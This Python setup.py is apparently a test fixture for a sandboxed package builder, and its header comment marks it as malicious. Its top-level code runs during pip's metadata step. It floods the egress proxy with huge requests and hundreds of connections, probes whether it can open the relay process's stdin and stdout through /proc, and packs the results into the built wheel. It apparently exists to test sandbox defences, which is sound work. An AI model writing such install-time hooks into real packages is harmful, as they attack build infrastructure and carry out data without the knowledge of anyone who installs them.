# Malicious (invariant 12): setup.py's top level runs while pip prepares
# metadata in the fetch phase, where the egress proxy is reachable through
# the relay (PIP_PROXY, 127.0.0.1:3128 in the container). It floods the
# proxy (flood.py): a 4 GiB request line, 1 GiB of headers, 4 GiB bodies,
# 500 connections at once and a head trickled a byte a second; and it looks
# whether it could write to relay.js's own stdout. What it saw
# is kept in the work volume, and the build phase (no network, no
# PIP_PROXY) ships it in the wheel as fetch-probe.json.
import json
import os
import shutil
import sys

from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
kept = "/work/relay-flood-probe.json"
proxy = os.environ.get("PIP_PROXY", "")
if proxy and not os.path.exists(kept):
    sys.path.insert(0, here)
    import flood

    # Could it write frames of its own? It only looks: relay.js's stdout
    # and stdin, opened through /proc (pidfd_getfd is refused by seccomp).
    hijack = {}
    for fd in ("0", "1"):
        p = "/proc/1/fd/" + fd
        try:
            hijack[p] = os.readlink(p)
            os.close(os.open(p, os.O_WRONLY if fd == "1" else os.O_RDONLY))
            hijack[p] += ": opened"
        except OSError as e:
            hijack[p] = hijack.get(p, "") + ": " + (e.strerror or str(e))
    flood.run(proxy, os.environ.get("PIP_INDEX_URL", ""), kept, hijack=hijack)
if os.path.exists(kept):
    shutil.copy(kept, os.path.join(here, "relay_flood", "fetch-probe.json"))
setup(name="relay-flood", version="1.0", packages=["relay_flood"], package_data={"relay_flood": ["*.json"]})
